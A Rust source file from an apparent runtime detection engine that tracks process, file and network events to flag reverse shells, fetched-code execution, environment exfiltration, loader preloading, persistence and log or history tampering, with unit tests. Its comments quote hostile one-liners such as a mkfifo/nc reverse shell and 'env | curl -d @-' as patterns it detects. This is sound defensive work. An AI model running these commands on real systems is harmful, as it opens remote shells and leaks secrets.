        self.on_exec_pipes(pf, name, &argv, sensed, h);
        if let Some(item) = techniques::discovery(name, &argv) {
            if techniques::is_account_discovery(&item) {
                self.account_discovery.insert(item.clone(), ());
            }
            if techniques::is_privilege_discovery(&item) {
                self.privilege_discovery.insert(item.clone(), ());
            }
            self.discovery.insert(item, ());
        }
        for product in techniques::security_products(&argv) {
            self.security_products.insert(product, ());
        }
        self.flags.credential_search |= techniques::credential_search(name, &argv);
        self.flags.inline_code_evaluates_data |=
            inline_code && techniques::inline_evaluates_data(name, &argv);
        self.flags.setid_mode_set |= techniques::sets_setid_mode(name, &argv);
        self.flags.container_socket_access |= techniques::container_escape(name, &argv);
        // `ldd` runs the loader in trace mode: it lists a program's libraries, runs nothing.
        if parent.name != "ldd"
            && let Some(program) = techniques::loader_program(name, &argv)
        {
            self.flags.loader_run_direct = true;
            let program = FileKey::path(&program);
            if self.written.get(&program).is_some() {
                self.flags.loader_ran_written_file = true;
            }
            pf.runs_fetched |= self.ran(&program, owner, store);
        }
        self.flags.history_file_tampered |= techniques::tampers_with_history(name, &argv);
        // What a process that fetched code with inline code starts next (this exec replaces
        // it, or its child's exec) came from the network.
        let from_inline_fetch = pf.inline_fetched || parent.inline_fetched;
        self.flags.inline_code_fetch_then_exec |= from_inline_fetch;
        pf.runs_fetched |= from_inline_fetch;
        pf.inline_code = inline_code;
        pf.inline_fetched = false;
        self.flags.inline_code_run |= pf.inline_code;
        if pf.network_tool || pf.decoder {
            let mark = Provenance {
                network_tool: pf.network_tool,
                decoded: pf.decoder,
                ..Provenance::default()
            };
            self.mark_writes(pf, mark);
        }
        pf.script = script;
        let fetched = self.ran(&key, owner, store);
        pf.runs_fetched |= fetched;
        if fetched {
            self.flags.fetched_run_hidden |= techniques::is_hidden_or_volatile(&run_path);
        }
        if self.written.get(&key).is_some() && techniques::is_impersonated_name(name) {
            self.flags.masquerade_run = true;
        }
        self.flags.logs_tampered |= techniques::tampers_with_logs(name, &argv);
        self.flags.timestomp |= techniques::is_timestomp(name, &argv);
        self.flags.shell_from_network_tool |= runs_code
            && !inline_code
            && (was_network_tool || name_in(parent.name, &h.network_tool_names))
            && name_in(name, &h.shell_names);
    }

    /// Pids of processes found to run fetched or decoded code after they started (see
    /// [`Self::marks`]); the caller marks them.
    pub fn take_marks(&mut self) -> Vec<u32> {
        std::mem::take(&mut self.marks)
    }

    /// Shells wired to the network without a socket on their stdio, and the environment
    /// piped into a network tool.
    fn on_exec_pipes(
        &mut self,
        pf: &ProcessFacts,
        name: &str,
        argv: &[String],
        sensed: &ExecFacts,
        h: &Heuristics,
    ) {
        let stdio = |n: u8| sensed.stdio_fd(n);
        let pipe_of = |n: u8| stdio(n).and_then(StdioFd::pipe);
        // `mkfifo f; cat f | sh -i 2>&1 | nc host port > f`: an interactive shell on pipes.
        if name_in(name, &h.shell_names)
            && techniques::is_interactive_shell(argv)
            && stdio(0).is_some_and(|s| s.kind == FdKind::Pipe)
        {
            self.flags.interpreter_on_socket = true;
        }
        // `python3 -c 'import socket,pty; …; pty.spawn("/bin/sh")'`: the shell gets a
        // terminal, the socket stays in the interpreter.
        if techniques::inline_wires_shell_to_socket(name, argv) {
            self.flags.interpreter_on_socket = true;
        }
        // `env | curl -d @- …`: the environment (tokens, keys) sent out.
        if matches!(name, "env" | "printenv")
            && argv.len() == 1
            && let Some(p) = pipe_of(1)
        {
            self.env_pipes.insert(p, ());
            if self.network_stdin_pipes.get(&p).is_some() {
                self.holding
                    .get_or_insert_with(|| "the environment (env)".to_owned());
            }
        }
        if pf.network_tool
            && let Some(p) = pipe_of(0)
        {
            self.network_stdin_pipes.insert(p, ());
            if self.env_pipes.get(&p).is_some() {
                self.holding
                    .get_or_insert_with(|| "the environment (env)".to_owned());
            }
        }
    }

    fn identify(&self, key: FileKey, id: Option<FileId>) -> FileKey {
        if self.written.get(&key).is_some() {
            return key;
        }
        id.and_then(|id| self.written_ids.get(&(id.dev, id.ino)).cloned())
            .unwrap_or(key)
    }

    /// What the sensor saw at the exec: loader variables, and what its standard streams are
    /// connected to (a socket to an external peer; a pipe out of a network tool or a
    /// decoder, into an interpreter).
    /// `pf` is the exec'ing process with its new image's `network_tool`/`decoder` set;
    /// `runs_code`: the image is a shell or interpreter (given a script, inline code, or its
    /// program on stdin).
    fn on_exec_context(
        &mut self,
        pf: &mut ProcessFacts,
        runs_code: bool,
        stdin_program: bool,
        sensed: &ExecFacts,
        owner: Owner,
        store: Option<&TaintStore>,
    ) {
        for v in &sensed.loader_env {
            let v = v.to_text();
            if let Some(value) = v
                .strip_prefix("LD_PRELOAD=")
                .or_else(|| v.strip_prefix("LD_AUDIT="))
            {
                self.flags.loader_preload = true;
                let written = value
                    .split([':', ' '])
                    .filter(|p| !p.is_empty())
                    .any(|p| self.written.get(&FileKey::path(p)).is_some());
                self.flags.loader_preload_written |= written;
                if written {
                    pf.runs_fetched |= value
                        .split([':', ' '])
                        .filter_map(|p| self.written.get(&FileKey::path(p)))
                        .any(|w| w.provenance.fetched() || w.provenance.decoded);
                }
            }
            self.loader_vars.insert(v, ());
        }
        let fd = |n: u8| sensed.stdio_fd(n);
        if runs_code {
            let on_socket = [0, 1].into_iter().filter_map(fd).any(|s| {
                s.kind == FdKind::Socket
                    && matches!(s.peer, Some(SockAddr::Inet { addr, .. }) if is_external(Some(addr)))
            });
            self.flags.interpreter_on_socket |= on_socket;
        }
        if stdin_program && let Some(stdin) = fd(0) {
            if let Some(p) = stdin.pipe() {
                self.interpreter_pipes.insert(p, owner.pid);
                let fetched = self.fetch_pipes.get(&p).is_some();
                let decoded = self.decode_pipes.get(&p).is_some();
                self.flags.fetched_code_piped |= fetched;
                self.flags.decoded_code_piped |= decoded;
                pf.runs_fetched |= fetched || decoded;
            } else if stdin.kind == FdKind::File
                && let Some(id) = stdin.file
                && let Some(key) = self.written_ids.get(&(id.dev, id.ino)).cloned()
            {
                // `bash < x.sh`: the shell reads a file written here as its program.
                pf.runs_fetched |= self.ran(&key, owner, store);
            }
        }
        if let Some(p) = fd(1).and_then(StdioFd::pipe) {
            let reader = self.interpreter_pipes.get(&p).copied();
            if pf.network_tool {
                self.fetch_pipes.insert(p, ());
                self.flags.fetched_code_piped |= reader.is_some();
            }
            if pf.decoder {
                self.decode_pipes.insert(p, ());
                self.flags.decoded_code_piped |= reader.is_some();
            }
            if let Some(pid) = reader
                && (pf.network_tool || pf.decoder)
            {
                self.marks.push(pid);
            }
        }
    }

    /// `key` was run; returns whether it holds fetched or decoded code.
    fn ran(&mut self, key: &FileKey, owner: Owner, store: Option<&TaintStore>) -> bool {
        let mut fetched = false;
        if let Some(w) = self.written.get(key) {
            self.flags.written_file_run = true;
            self.flags.fetched_file_run |= w.provenance.fetched();
            self.flags.decoded_file_run |= w.provenance.decoded;
            fetched = w.provenance.fetched() || w.provenance.decoded;
        }
        if self.inherit(key, owner, store) {
            self.flags.tainted_file_run = true;
        }
        fetched
    }

    /// An open of `path` by the process `pf` (`path` kernel-resolved when it succeeded).
    #[allow(clippy::too_many_arguments)]
    pub fn on_open(
        &mut self,
        pf: &mut ProcessFacts,
        path: &str,
        flags: u32,
        result: i64,
        id: Option<FileId>,
        h: &Heuristics,
        owner: Owner,
        mut store: Option<&mut TaintStore>,
    ) {
        let key = FileKey::path(path);
        // A credential's own consumer using it (`ssh` reading its key), or a file the session
        // wrote itself (a project's own `.env`), is not credential access.
        // Listing a directory (`O_DIRECTORY`: `find`, `ls`) reads no secret.
        const O_DIRECTORY: u32 = 0o200000;
        // A public key (`id_ed25519.pub`) is meant to be shared.
        let sensitive = flags & O_DIRECTORY == 0
            && !path.ends_with(".pub")
            && super::classify::is_sensitive_path(path, h)
            && (!is_credential_use(&pf.name, path) || names_as_operand(&pf.argv_text, path))
            && !is_own_proc_entry(path, owner.pid)
            && self.written.get(&key).is_none();
        if result < 0 {
            // Refused, not missing: probing for a file that does not exist reads nothing,
            // and every tool looks for its optional config files.
            const EPERM: i64 = -1;
            const EACCES: i64 = -13;
            if sensitive && matches!(result, EPERM | EACCES) {
                self.sensitive_attempted.insert(path.to_owned(), ());
            }
            if super::classify::has_write_intent(flags) && self.persistence_kind(path).is_some() {
                self.flags.persistence_attempted = true;
            }
            if flags & super::classify::O_TRUNC != 0 && techniques::is_system_log(path) {
                self.flags.logs_tampered = true;
            }
            return;
        }
        if flags & super::classify::O_TRUNC != 0 && techniques::is_history_file(path) {
            self.flags.history_file_tampered = true;
        }
        if flags & super::classify::O_TRUNC != 0 && techniques::is_system_log(path) {
            self.flags.logs_tampered = true;
        }
        if super::classify::has_write_intent(flags) {
            if let Some(kind) = self.persistence_kind(path) {
                self.note_persistence(path.to_owned(), kind);
            }
            let provenance = pf.provenance();
            let source = pf.read_sensitive.clone().or_else(|| self.holding.clone());
            if let Some(w) = self.written.entry(key.clone(), || WrittenFile {
                path: path.to_owned(),
                first_ns: owner.ktime_ns,
                provenance: Provenance::default(),
                taint_source: None,
            }) {
                w.provenance.merge(provenance);
                if w.taint_source.is_none() {
                    w.taint_source.clone_from(&source);
                }
            }
            self.flags.sensitive_copy_written |= provenance.sensitive_copy;
            if let Some(id) = id
                && self.written.get(&key).is_some()
            {
                self.written_ids.insert((id.dev, id.ino), key.clone());
            }
            if !pf.writes.contains(&key) {
                if pf.writes.len() >= PROCESS_WRITES_MAX {
                    pf.writes.remove(0);
                }
                pf.writes.push(key.clone());
            }
            if let Some(store) = store.as_deref_mut()
                && is_taintable(path)
            {
                match source {
                    Some(source) => store.publish(
                        owner.uid,
                        key,
                        Taint {
                            path: path.to_owned(),
                            session_id: owner.session_id,
                            source,
                            written_ns: owner.ktime_ns,
                        },
                    ),
                    None if flags & super::classify::O_TRUNC != 0 => store.clear(owner.uid, &key),
                    None => {}
                }
            }
            return;
        }
        // A shell or interpreter reading the script it was given: the script runs.
        if pf.script.as_deref().is_some_and(|s| s == basename(path)) {
            pf.script = None;
            let ran = self.identify(key.clone(), id);
            let fetched = self.ran(&ran, owner, store.as_deref());
            pf.runs_fetched |= fetched;
            self.flags.fetched_run_hidden |= fetched && techniques::is_hidden_or_volatile(path);
        }
        // A read: of a sensitive file, of a copy of one written here, or of a tainted file
        // an earlier session wrote.
        let copy_of = self.written.get(&key).and_then(|w| {
            w.taint_source
                .clone()
                .filter(|_| w.provenance.sensitive_copy)
        });
        let inherited = self.inherit(&key, owner, store.as_deref());
        if inherited {
            self.holds_inherited = true;
        }
        let source = if sensitive {
            self.sensitive_read.insert(path.to_owned(), ());
            Some(path.to_owned())
        } else if inherited || copy_of.is_some() {
            copy_of.or_else(|| Some(path.to_owned()))
        } else {
            None
        };
        if let Some(source) = source {
            pf.read_sensitive.get_or_insert_with(|| source.clone());
            self.holding.get_or_insert_with(|| source.clone());
            self.taint_writes(pf, &source, owner, store);
        }
    }

    /// A connect of `pf`'s process to a Unix socket at `path`.
    pub fn on_unix_connect(&mut self, pf: &ProcessFacts, path: &str, h: &Heuristics) {
        if is_container_socket(path) && !name_in(&pf.name, &h.container_runtime_names) {
            self.flags.container_socket_access = true;
        }
    }

    /// Fold a sensor activity record (wire version 2 kinds) of `pf`'s process: sends with
    /// a destination and accepted peers count as connections, a TCP `syn_sent` is a connect
    /// by any route (io_uring included), io_uring opens and connects count as the syscalls
    /// would, a set-uid mode set by `chmod`, a rename or link into a persistence location,
    /// a history file unlinked or renamed, and the bytes sent to external peers.
    pub fn on_activity(
        &mut self,
        pf: &mut ProcessFacts,
        activity: &Activity,
        h: &Heuristics,
        owner: Owner,
        store: Option<&mut TaintStore>,
    ) {
        let t = owner.ktime_ns;
        let inet = |a: &SockAddr| match a {
            SockAddr::Inet { addr, port, .. } => Some((*addr, *port)),
            _ => None,
        };
        match activity {
            Activity::Socket(op) => {
                let Some((ip, port)) = inet(&op.addr) else {
                    return;
                };
                match op.op {
                    SocketOpKind::Sendto | SocketOpKind::Sendmsg | SocketOpKind::Sendmmsg => {
                        self.on_connect(pf, Some(ip), port, op.result >= 0, t);
                        if let Ok(sent) = u64::try_from(op.result)
                            && matches!(op.op, SocketOpKind::Sendto)
                        {
                            self.note_sent(ip, port, sent, t);
                        }
                    }
                    SocketOpKind::Accept | SocketOpKind::Accept4 if op.result >= 0 => {
                        self.on_connect(pf, Some(ip), port, true, t);
                    }
                    _ => {}
                }
            }
            Activity::Tcp(tcp) if tcp.new == "syn_sent" => {
                if let Some((ip, port)) = inet(&tcp.remote) {
                    self.on_connect(pf, Some(ip), port, true, t);
                }
            }
            Activity::IoUring(u) if u.op == IoUringOp::Submit => match u.opcode_name {
                Some("openat" | "openat2") => {
                    if let Some(path) = u.path.as_ref().map(|p| p.to_text())
                        && path.starts_with('/')
                    {
                        self.on_open(pf, &path, 0, 0, None, h, owner, store);
                    }
                }
                Some("connect" | "sendmsg" | "send" | "send_zc" | "sendmsg_zc") => {
                    if let Some((ip, port)) = u.addr.as_ref().and_then(inet) {
                        self.on_connect(pf, Some(ip), port, true, t);
                    }
                }
                _ => {}
            },
            Activity::File(f) => {
                use FileOpKind::*;
                if matches!(f.op, Chmod | Fchmodat | Fchmodat2 | Fchmod)
                    && f.mode.is_some_and(|m| m & 0o6000 != 0)
                {
                    self.flags.setid_mode_set = true;
                }
                let operand = f.path.as_ref().map(|p| p.to_text());
                if matches!(f.op, Unlink | Unlinkat | Rename | Renameat | Renameat2)
                    && operand.as_deref().is_some_and(techniques::is_history_file)
                {
                    self.flags.history_file_tampered = true;
                }
                if matches!(f.op, Unlink | Unlinkat)
                    && operand.as_deref().is_some_and(techniques::is_system_log)
                {
                    self.flags.logs_tampered = true;
                }
                if f.result == 0
                    && matches!(
                        f.op,
                        Rename | Renameat | Renameat2 | Link | Linkat | Symlink | Symlinkat
                    )
                    && let Some(dest) = f.new_path.as_ref().map(|p| p.to_text())
                    && let Some(kind) = self.persistence_kind(&dest)
                {
                    self.note_persistence(dest, kind);
                }
            }
            Activity::SendVolume(v) => {
                if let Some((ip, port)) = inet(&v.remote)
                    && is_external(Some(ip))
                    && let Some(d) = self.destinations.entry((ip, port), || Destination {
                        first_ns: t,
                        ..Destination::default()
                    })
                {
                    d.bytes_sent = d.bytes_sent.max(v.total_bytes);
                    // Data went out after a secret (or a copy, or an earlier session's) was
                    // read: the upload that opens the file after connecting (`curl -F f=@…`).
                    self.flags.sensitive_then_external |= self.holding.is_some();
                    self.flags.tainted_file_sent |= self.holds_inherited;
                }
            }
            _ => {}
        }
    }

    /// Bytes sent to external destinations, over all of them.
    pub fn external_bytes_sent(&self) -> u64 {
        self.destinations
            .iter()
            .fold(0u64, |n, (_, d)| n.saturating_add(d.bytes_sent))
    }

    /// A connect of the process `pf` (`ok`: it succeeded or is in progress).
    pub fn on_connect(
        &mut self,
        pf: &mut ProcessFacts,
        ip: Option<IpAddr>,
        port: u16,
        ok: bool,
        ktime_ns: u64,
    ) {
        if !is_external(ip) {
            return;
        }
        if let Some(ip) = ip {
            let new = self.destinations.get(&(ip, port)).is_none();
            if let Some(d) = self.destinations.entry((ip, port), || Destination {
                first_ns: ktime_ns,
                ..Destination::default()
            }) {
                d.attempts += 1;
                d.established |= ok;
                if new && let Some(n) = self.ports_by_host.entry(ip, || 0) {
                    *n += 1;
                    self.ports_probed_max = self.ports_probed_max.max(*n);
                }
            }
        }
        self.flags.fetched_code_then_external |= pf.runs_fetched;
        if !ok {
            return;
        }
        if pf.inline_code {
            pf.inline_fetched = true;
            self.flags.inline_code_then_external = true;
        }
        if !pf.connected_external && !pf.package_manager {
            pf.connected_external = true;
            let mark = Provenance {
                after_external_connect: true,
                ..Provenance::default()
            };
            self.mark_writes(pf, mark);
        }
        // A package manager fetching what it installs sends no secret of the session's.
        if !pf.package_manager {
            self.flags.sensitive_then_external |= self.holding.is_some();
            self.flags.tainted_file_sent |= self.holds_inherited;
        }
    }

    /// Hook for the sensor's bytes-sent reports: `bytes` more sent to `(ip, port)`.
    pub fn note_sent(&mut self, ip: IpAddr, port: u16, bytes: u64, ktime_ns: u64) {
        if !is_external(Some(ip)) {
            return;
        }
        if let Some(d) = self.destinations.entry((ip, port), || Destination {
            first_ns: ktime_ns,
            ..Destination::default()
        }) {
            d.bytes_sent = d.bytes_sent.saturating_add(bytes);
        }
    }

    /// Hook for the sensor's exec-time loader variables (`LD_PRELOAD=…`, `LD_AUDIT=…`).
    pub fn note_loader_variables<'a>(&mut self, vars: impl IntoIterator<Item = &'a str>) {
        for v in vars {
            self.loader_vars.insert(v.to_owned(), ());
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn persistence_locations() {
        for (p, k) in [
            ("/home/u/.bashrc", "shell_startup"),
            ("/root/.profile", "shell_startup"),
            ("/home/u/.bash_profile", "shell_startup"),
            ("/home/u/.zshrc", "shell_startup"),
            ("/etc/profile.d/x.sh", "shell_startup"),
            ("/etc/profile", "shell_startup"),
            ("/etc/crontab", "cron"),
            ("/etc/cron.d/job", "cron"),
            ("/etc/cron.daily/x", "cron"),
            ("/var/spool/cron/crontabs/u", "cron"),
            ("/etc/systemd/system/x.service", "systemd"),
            ("/usr/lib/systemd/system/x.service", "systemd"),
            ("/home/u/.config/systemd/user/x.service", "systemd"),
            ("/home/u/.ssh/authorized_keys", "authorized_keys"),
            ("/root/.ssh/authorized_keys2", "authorized_keys"),
            ("/etc/ld.so.preload", "ld_preload"),
            ("/home/u/.config/autostart/x.desktop", "autostart"),
            ("/etc/xdg/autostart/x.desktop", "autostart"),
            ("/work/repo/.git/hooks/pre-commit", "git_hook"),
            ("/home/u/.bashrc (deleted)", "shell_startup"),
        ] {
            assert_eq!(persistence_kind(p), Some(k), "{p}");
            assert!(PERSISTENCE_KINDS.contains(&k));
        }
        for p in [
            "/home/u/.bashrc.bak",
            "/tmp/x",
            "/etc/ld.so.cache",
            "/home/u/.ssh/known_hosts",
            "/work/repo/.git/config",
        ] {
            assert_eq!(persistence_kind(p), None, "{p}");
        }
    }

    #[test]
    fn decoders() {
        let argv = |a: &[&str]| a.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>();
        assert!(is_decoder("base64", &argv(&["base64", "-d"])));
        assert!(is_decoder("base64", &argv(&["base64", "--decode", "x"])));
        assert!(is_decoder("base64", &argv(&["base64", "-di"])));
        assert!(is_decoder("base32", &argv(&["base32", "-d"])));
        assert!(is_decoder("xxd", &argv(&["xxd", "-r", "-p"])));
        assert!(is_decoder("xxd", &argv(&["xxd", "-rp"])));
        assert!(is_decoder("uudecode", &argv(&["uudecode"])));
        assert!(is_decoder(
            "openssl",
            &argv(&["openssl", "enc", "-d", "-base64"])
        ));
        assert!(!is_decoder("base64", &argv(&["base64", "-w0", "f"])));
        assert!(!is_decoder("xxd", &argv(&["xxd", "f"])));
        assert!(!is_decoder("cat", &argv(&["cat", "-d"])));
        assert!(!is_decoder(
            "openssl",
            &argv(&["openssl", "rand", "-hex", "8"])
        ));
    }

    #[test]
    fn external_destinations() {
        let ext = |s: &str| is_external(Some(s.parse().unwrap()));
        assert!(ext("8.8.8.8") && ext("10.0.0.5") && ext("192.168.1.2") && ext("2001:db8::1"));
        assert!(!ext("127.0.0.1") && !ext("::1") && !ext("0.0.0.0") && !ext("::ffff:127.0.0.1"));
        assert!(!is_external(None));
    }

    #[test]
    fn bounded_sets_refuse_and_record_it() {
        let mut b: Bounded<u32, u32> = Bounded::new(2);
        assert!(b.insert(1, 10) && b.insert(2, 20));
        assert!(!b.insert(1, 11), "present");
        assert!(!b.overflowed());
        assert!(!b.insert(3, 30));
        assert!(b.overflowed());
        assert!(b.entry(4, || 40).is_none());
        *b.entry(1, || 0).unwrap() += 1;
        assert_eq!(b.get(&1), Some(&11));
        assert_eq!((b.len(), b.max()), (2, 2));
    }
}
